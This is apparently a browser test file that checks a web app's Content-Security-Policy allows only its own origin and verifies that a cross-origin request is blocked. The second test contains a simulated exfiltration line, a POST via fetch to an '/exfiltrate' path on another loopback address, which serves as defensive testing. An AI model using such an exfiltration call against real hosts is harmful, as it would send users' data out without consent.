// The page keeps to its own origin: a Content-Security-Policy that allows nothing from elsewhere,
// and a check that a request to another origin is refused by the browser before it is sent.
import { test } from "node:test";
import assert from "node:assert/strict";
import { useApp } from "./harness.mjs";

const journey = useApp();

test("the Content-Security-Policy pins the page to its own origin, and the app runs under it", async () => {
  await journey(async (page) => {
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
    assert.match(policy, /default-src 'none'/);
    assert.match(policy, /connect-src 'self'(;|$)/);
    assert.match(policy, /script-src 'self' 'wasm-unsafe-eval' 'sha256-/);
    assert.doesNotMatch(policy, /unsafe-inline|https?:|\*/);
    // The app started and works: the policy admits trunk's loader (its hash is right).
    await page.getByTestId("load-example").click();
    await page.getByText("6 records · 6 ready to score").waitFor();
  });
});

test("a request to another origin is refused before it is sent", async () => {
  const app = await journey.open();
  try {
    const outcome = await app.page.evaluate(async () => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
      let result;
      try {
        // Another loopback address: nothing listens there, and the policy must stop it first.
        await fetch("http://127.0.0.2:9/exfiltrate", { method: "POST", body: "MKV" });
        result = "sent";
      } catch {
        result = "refused";
      }
      await new Promise((r) => setTimeout(r, 50));
      return { result, violations };
    });
    assert.equal(outcome.result, "refused");
    assert.deepEqual(outcome.violations, ["connect-src"]);
  } finally {
    await app.close();
  }
});
